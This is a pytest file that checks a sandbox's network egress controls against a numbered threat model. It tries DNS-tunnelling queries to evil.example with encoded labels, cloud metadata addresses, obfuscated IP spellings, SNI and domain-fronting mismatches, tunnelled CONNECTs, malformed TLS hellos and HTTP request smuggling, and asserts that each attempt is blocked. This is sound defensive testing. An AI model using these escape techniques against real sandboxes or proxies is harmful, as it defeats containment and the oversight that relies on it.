"""Attempts to get out: threat model rows 1 to 3, 5 to 8, 10, 12, 14 to 16, from inside a sandbox.

What the internet heard and what left the host at all is counted before and after: a test passes
only when not one packet left and not one question was asked.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from tests.fakes.clienthello import message, openssl, records, sni
from tests.stage.internet import RESOLVER, WEB, Internet, NetBox, open_box, open_internet
from tests.waiting import eventually

# Reads a list of attempts, prints what came of each: "errno", or the first octets of an answer.
PROBE = r"""
import errno, json, socket, ssl, struct, sys

def named(error):
    if isinstance(error, ssl.SSLError):
        return type(error).__name__
    return errno.errorcode.get(getattr(error, "errno", 0) or 0, type(error).__name__)

def connect(kind, address, port, data=""):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    kinds = {"tcp": (socket.SOCK_STREAM, 0), "udp": (socket.SOCK_DGRAM, 0),
             "udplite": (socket.SOCK_DGRAM, 136), "icmp": (socket.SOCK_DGRAM, 1),
             "sctp": (socket.SOCK_STREAM, 132), "dccp": (6, 33), "raw": (socket.SOCK_RAW, 1)}
    with socket.socket(family, *kinds[kind]) as client:
        client.settimeout(60)
        client.connect((address, port))
        client.send(data.encode() or b"x")
        try:
            return client.recv(200).decode("latin-1")
        except TimeoutError:
            return "silence"

def proxy(line, more="", after=""):
    with socket.create_connection(("127.0.0.1", 480), 60) as client:
        client.sendall((line + "\r\n" + more + "\r\n" + after).encode("latin-1"))
        return client.recv(400).decode("latin-1").split("\r\n")[0]

def tls(where, sni, host="web.example"):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((where, 443), 60) as plain:
        with context.wrap_socket(plain, server_hostname=sni) as client:
            client.sendall(b"GET /hello HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n")
            return client.recv(100).decode("latin-1").split("\r\n")[0]

def tunnel(name, sni, inner=""):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(("127.0.0.1", 480), 60) as plain:
        plain.sendall(f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n".encode())
        plain.recv(400)
        if inner:
            plain.sendall(inner.encode("latin-1"))
            return plain.recv(100).decode("latin-1")
        with context.wrap_socket(plain, server_hostname=sni or None) as client:
            client.sendall(b"GET /hello HTTP/1.1\r\nHost: web.example\r\n\r\n")
            return client.recv(100).decode("latin-1").split("\r\n")[0]

def dns(name, kind=1, tcp=False):
    labels = b"".join(bytes([len(l)]) + l.encode("latin-1") for l in name.split("."))
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
    if tcp:
        with socket.create_connection(("127.0.0.1", 53), 60) as client:
            client.sendall(struct.pack("!H", len(query)) + query)
            answer = client.recv(600)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(60)
            client.sendto(query, ("127.0.0.1", 53))
            answer = client.recv(600)
    code, count = answer[3] & 15, struct.unpack_from("!H", answer, 6)[0]
    return f"{code} {count} " + (socket.inet_ntoa(answer[-4:]) if count else "")

def resolve(name):
    return socket.gethostbyname(name)

def attempt(what, *words):
    try:
        return globals()[what](*words)
    except (OSError, ValueError, UnicodeError) as error:
        return named(error)

print(json.dumps([attempt(*words) for words in json.load(sys.stdin)]))
"""


@pytest.fixture(scope="module")
def internet() -> Iterator[Internet]:
    with open_internet() as made:
        yield made


@pytest.fixture(scope="module")
def box(internet: Internet) -> Iterator[NetBox]:
    with open_box(internet) as made:
        yield made


def attempts(box: NetBox, *words: list[Any]) -> list[str]:
    found: list[str] = box.python(PROBE, words)
    return found


@contextmanager
def nothing_leaves(internet: Internet) -> Iterator[None]:
    packets = internet.quiet()
    heard = internet.heard()
    yield
    assert internet.heard() == heard
    assert internet.packets() == packets


def audited(internet: Internet, **wanted: str) -> None:
    """Reports take a moment, and come one a second when there are many."""
    eventually(
        lambda: any(wanted.items() <= event.items() for event in internet.audit()), str(wanted)
    )


def test_the_probe_sees_a_way_out_where_there_is_one(box: NetBox) -> None:
    """The control: what is allowed works by every means the attempts below use."""
    address = attempts(box, ["resolve", "web.example"])[0]
    assert address.startswith("198.1")
    allowed = attempts(
        box, ["tls", address, "web.example"], ["tunnel", "web.example", "web.example"],
        ["proxy", "CONNECT web.example:443 HTTP/1.1", "Host: web.example:443\r\n"],
    )  # fmt: skip
    assert allowed == ["HTTP/1.1 200 OK"] * 2 + ["HTTP/1.1 200 Connection established"]


def test_rows_1_2_5_6_direct_ways_fail_at_once(box: NetBox) -> None:
    ways = [["connect", kind, WEB, 443] for kind in ("tcp", "udp", "udplite")]
    ways += [["connect", "tcp", WEB, 80], ["connect", "udp", RESOLVER, 53, "x" * 200]]
    ways += [["connect", kind, WEB, 1] for kind in ("icmp", "sctp", "dccp", "raw")]
    ways += [["connect", "tcp", each, 443] for each in ("::ffff:203.0.113.5", "2001:db8::5")]
    ways += [["connect", "udp", "fe80::1", 53], ["connect", "udp", "ff02::1", 5353]]
    ways += [["connect", "tcp", "::1", port] for port in (53, 418, 419, 443, 480)]
    with nothing_leaves(box.internet):
        outcomes = attempts(box, *ways)
    # None of them is a time-out: the rules answer at once.
    denied = {"ENETUNREACH", "EACCES", "EPERM", "EADDRNOTAVAIL", "EPROTONOSUPPORT", "ECONNREFUSED",
              "ESOCKTNOSUPPORT", "EAFNOSUPPORT", "EINVAL", "EHOSTUNREACH"}  # fmt: skip
    assert set(outcomes) <= denied, dict(zip(map(str, ways), outcomes, strict=True))


def test_row_3_a_question_is_no_channel(box: NetBox) -> None:
    names = ["c2VjcmV0.evil.example", "a" * 60 + "." + "b" * 60 + ".evil.example", "evil.example"]
    with nothing_leaves(box.internet):
        asked = attempts(
            box, *[["dns", name, kind, tcp] for name in names for kind in (1, 28, 16)
                   for tcp in (False, True)]
        )  # fmt: skip
    assert set(asked) == {"3 0 "}
    audited(box.internet, op="dns", to="evil.example", code="E101", decision="deny")


def test_a_question_for_an_allowed_name_leaves_neither(box: NetBox) -> None:
    with nothing_leaves(box.internet):
        a, aaaa, https = attempts(box, *[["dns", "web.example", kind] for kind in (1, 28, 65)])
    assert a.startswith("0 1 198.1")
    assert (aaaa, https) == ("0 0 ", "0 0 ")


def test_row_7_metadata_and_inner_addresses(box: NetBox) -> None:
    direct = ["169.254.169.254", "100.100.100.200", "fd00:ec2::254"]
    with nothing_leaves(box.internet):
        assert set(attempts(box, *[["connect", "tcp", each, 80] for each in direct])) <= {
            "ENETUNREACH", "EADDRNOTAVAIL",
        }  # fmt: skip
    names = (
        "metadata.example",
        "loop.example",
        "ours.example",
        "synthetic.example",
        "wiki.example",
    )
    shown = attempts(
        box, *[["proxy", f"CONNECT {name}:443 HTTP/1.1", f"Host: {name}\r\n"] for name in names]
    )
    for line in shown:
        assert line.startswith("HTTP/1.1 403 ") and line.endswith("not public (E106)")
    dialled = {each["to"] for each in box.internet.heard() if each["kind"] == "connection"}
    assert dialled <= {WEB, "10.99.0.5"}
    audited(box.internet, to="metadata.example:443", code="E106", decision="deny")


@pytest.mark.parametrize(
    "host",
    ["203.0.113.5", "3405803781", "0xcb007105", "0313.0.0161.5", "127.1", "0", "localhost.1",
     "[::ffff:127.0.0.1]", "[::1]", "web.example.", "WEB..example", "web.example%00.evil.example",
     "web.example\\@evil.example", "user@web.example"],
)  # fmt: skip
def test_row_8_no_spelling_of_an_address_is_a_host(box: NetBox, host: str) -> None:
    with nothing_leaves(box.internet):
        line = attempts(box, ["proxy", f"CONNECT {host}:443 HTTP/1.0"])[0]
    assert line.startswith("HTTP/1.1 403 gitmoat: ") and line.endswith("(E103)")


@pytest.mark.parametrize(
    ("port", "code"),
    [("22", "E102"), ("25", "E102"), ("6443", "E102"), ("0", "E103"), ("65536", "E103")],
)
def test_row_10_only_listed_ports(box: NetBox, port: str, code: str) -> None:
    with nothing_leaves(box.internet):
        line = attempts(box, ["proxy", f"CONNECT web.example:{port} HTTP/1.0"])[0]
    assert line.startswith("HTTP/1.1 403 ") and line.endswith(f"({code})")


def test_row_12_an_address_is_for_its_own_name(box: NetBox) -> None:
    web, cdn = attempts(box, ["resolve", "web.example"], ["resolve", "a.cdn.example"])
    with nothing_leaves(box.internet):
        outcomes = attempts(
            box, ["tls", web, "a.cdn.example"], ["tls", cdn, "web.example"],
            ["tls", web, "evil.example"], ["tls", "198.19.250.7", "web.example"],
            ["connect", "tcp", web, 443, "GET / HTTP/1.1\r\n\r\n"],
        )  # fmt: skip
    assert set(outcomes) <= {"ECONNRESET", "SSLEOFError", "SSLZeroReturnError", ""}
    audited(box.internet, to="web.example:443", code="E105", decision="deny")


def test_row_14_a_tunnel_carries_tls_for_its_name_and_nothing_else(box: NetBox) -> None:
    """Also not another CONNECT, as through a relay that trusts where it comes from."""
    heard = [each for each in box.internet.heard() if each["kind"] == "request"]
    inner = "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"
    outcomes = attempts(
        box, ["tunnel", "web.example", "", inner], ["tunnel", "web.example", "", "SSH-2.0-x\r\n"],
        ["tunnel", "web.example", "evil.example"], ["tunnel", "web.example", ""],
        ["tunnel", "web.example", "a.cdn.example"],
    )  # fmt: skip
    assert set(outcomes) <= {"ECONNRESET", "SSLEOFError", "SSLZeroReturnError", ""}
    assert [each for each in box.internet.heard() if each["kind"] == "request"] == heard


def test_row_14_no_form_of_a_hello_hides_another_name(box: NetBox) -> None:
    """The first two are a control: one that was cut up and is for the right name gets an answer."""
    name, evil = sni(b"web.example"), sni(b"evil.example")
    whole = openssl("web.example")
    good = [whole, records(whole[5:], 7)]
    bad = [
        records(message(name, (0xFE0D, b"\0" * 40))),
        records(message(name, evil)),
        records(message(evil, name)),
        records(message(sni(b"web.example", b"evil.example"))),
        records(message(evil), 3),
        records(message()),
        records(message(name), 1)[:-6] + b"\x17\3\1\0\1x",
    ]
    heard = [each for each in box.internet.heard() if each["kind"] == "request"]
    sent = [["tunnel", "web.example", "", each.decode("latin-1")] for each in (*good, *bad)]
    outcomes = attempts(box, *sent)
    assert [each[:1] for each in outcomes[:2]] == ["\x16", "\x16"]
    assert set(outcomes[2:]) <= {"ECONNRESET", ""}
    assert [each for each in box.internet.heard() if each["kind"] == "request"] == heard


def test_row_15_no_quic(box: NetBox) -> None:
    web = attempts(box, ["resolve", "web.example"])[0]
    with nothing_leaves(box.internet):
        assert set(attempts(box, *[["connect", "udp", each, 443] for each in (web, WEB)])) <= {
            "EPERM", "ENETUNREACH", "EHOSTUNREACH", "EACCES",
        }  # fmt: skip


@pytest.mark.parametrize(
    ("line", "headers"),
    [
        ("GET http://web.example/hello HTTP/1.1", "Host: evil.example\r\n"),
        ("GET http://web.example/hello HTTP/1.1", "Host: web.example\r\nHost: evil.example\r\n"),
        ("GET http://web.example/hello HTTP/1.1", "Host: web.example:8080\r\n"),
        ("GET http://web.example/ HTTP/1.1", "Host: web.example\r\nTransfer-Encoding: chunked\r\n"),
        ("POST http://web.example/ HTTP/1.1",
         "Host: web.example\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n"),
        ("GET http://web.example/hello HTTP/1.1", "Host: web.example\r\nConnection: host\r\n"),
        ("GET /hello HTTP/1.1", "Host: web.example\r\n"),
        ("GET http://web.example/hello HTTP/1.1\nX: y", "Host: web.example\r\n"),
        ("CONNECT web.example:443 HTTP/1.1", "Host: evil.example:443\r\n"),
    ],
)  # fmt: skip
def test_row_16_a_request_that_says_two_things_is_refused(
    box: NetBox, line: str, headers: str
) -> None:
    with nothing_leaves(box.internet):
        assert attempts(box, ["proxy", line, headers])[0].startswith("HTTP/1.1 400 ")


def test_a_plain_request_cannot_hide_a_second_one(box: NetBox) -> None:
    """What follows a request is a request of its own, decided like any other."""
    smuggled = "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    attempts(
        box, ["proxy", "GET http://web.example/hello HTTP/1.1", "Host: web.example\r\n", smuggled]
    )
    hosts = {each.get("host") for each in box.internet.heard() if each["kind"] == "request"}
    assert "evil.example" not in hosts
    asked = {each.get("name") for each in box.internet.heard() if each["kind"] == "question"}
    assert "evil.example" not in asked


def test_only_names_that_are_allowed_were_ever_asked_for(box: NetBox) -> None:
    """After all of the above: the resolver's log is the proof."""
    asked = {each["name"] for each in box.internet.heard() if each["kind"] == "question"}
    assert asked <= {
        "web.example", "a.cdn.example", "metadata.example", "loop.example", "ours.example",
        "synthetic.example", "wiki.example", "inside.example",
    }  # fmt: skip
